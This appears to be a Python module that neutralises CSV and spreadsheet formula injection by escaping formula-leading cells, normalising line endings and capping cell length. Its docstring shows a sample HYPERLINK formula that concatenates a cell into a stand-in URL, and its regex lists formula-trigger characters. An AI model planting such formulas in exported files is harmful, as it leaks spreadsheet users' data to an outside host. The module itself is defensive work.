r"""Text from models, datasets and studies on its way into files that people open: all of it is hostile.

    csv_cell('=HYPERLINK("http://a.b/"&A1)')  ->  '\'=HYPERLINK("http://a.b/"&A1)'     shown, not computed
    csv_cell("a\rb")                          ->  "a\nb"                               one cell, not two rows
    bounded("x" * 1_000_000, 5)               ->  "xxxxx [cut here: 999,995 more characters]"

For HTML there is `mixgrid.report.text.escape`. Parquet and JSON keep every text as it came.
"""

import re

LONGEST_CELL = 32_000  # Excel takes 32,767 characters, and spills the rest into other cells

# A spreadsheet computes what opens with one of these (OWASP, CSV Injection). Some drop white space and invisible
# characters before them, and some take full-width forms for the plain ones.
_FORMULA = re.compile(r"[\t\r\n\x00]|[\s\x00-\x1f\ufeff\u200b]*+[-=+@－＝＋＠]")
_LINE_END = re.compile(r"\r\n?")
_UNWRITABLE = re.compile("[\x00\ud800-\udfff]")


def csv_cell(text: str) -> str:
    """The text as a CSV cell that no spreadsheet computes: after an apostrophe where it would, and at most so long.

    For columns of text only: a number is no text, and `-5` there must stay a number. Carriage returns become line
    feeds, since Python's csv leaves a lone one unquoted; NUL and lone surrogates, which readers refuse, become U+FFFD.
    """
    safe = f"'{text}" if _FORMULA.match(text) else text
    return bounded(_UNWRITABLE.sub("\ufffd", _LINE_END.sub("\n", safe)), LONGEST_CELL)


def bounded(text: str, limit: int) -> str:
    """The text, or its first `limit` characters and a note of how many more there are; the note is not counted."""
    if len(text) <= limit:
        return text
    return f"{text[:limit]} [cut here: {len(text) - limit:,} more characters]"
